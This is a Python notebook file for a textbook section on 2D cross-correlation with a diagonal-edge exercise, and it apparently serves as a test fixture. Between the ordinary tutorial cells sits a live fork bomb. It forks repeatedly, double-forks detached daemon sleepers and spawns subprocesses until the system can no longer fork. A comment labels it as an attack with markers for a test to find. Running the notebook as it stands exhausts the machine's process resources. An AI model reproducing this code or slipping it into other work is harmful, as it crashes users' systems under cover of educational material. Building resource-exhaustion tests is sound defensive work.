# %% [markdown]
# # 7.2 Convolutions for Images
# Attack: forks until fork fails (each child double-forks into a detached daemon that sleeps),
# starts sleepers with subprocess and multiprocessing, every one carrying a marker in its command
# line so that the test can find leftovers. The rest is honest.

# %%
# ruff: noqa
import torch

# %% [markdown]
# ## 7.2.1 The Cross-Correlation Operation


# %%
def corr2d(X, K):
    """Compute 2D cross-correlation."""
    h, w = K.shape
    Y = torch.zeros((X.shape[0] - h + 1, X.shape[1] - w + 1))
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i : i + h, j : j + w] * K).sum()
    return Y


# %%
import multiprocessing
import os
import subprocess
import sys

MARK = "__MARKER__"
SLEEPER = [sys.executable, "-c", "import time; time.sleep(600)", MARK]


def become_sleeper():
    os.execv(sys.executable, SLEEPER)


forks, stop = 0, None
try:
    multiprocessing.get_context("fork").Process(target=become_sleeper).start()
    while True:
        subprocess.Popen(SLEEPER, start_new_session=True)
        pid = os.fork()
        if pid == 0:  # child: detach from the kernel's session, double-fork, sleep forever
            try:
                os.setsid()
                if os.fork() == 0:
                    become_sleeper()
            finally:
                os._exit(0)
        forks += 1
except OSError as exc:
    stop = exc
raise RuntimeError(f"fork bomb stopped after {forks} forks: {stop}")

# %% [markdown]
# ### Exercise 1: Construct an image `X` with diagonal edges.

# %%
X_diag = torch.eye(8)
X_diag

# %% [markdown]
# ### Exercise 1.1: What happens if you apply the kernel `K` in this section to it?

# %%
K = torch.tensor([[1.0, -1.0]])
Y_diag = corr2d(X_diag, K)
Y_diag

# %% [markdown]
# The result is not a zero matrix: K detects the diagonal edge, with +1 on the diagonal and -1
# just below it.
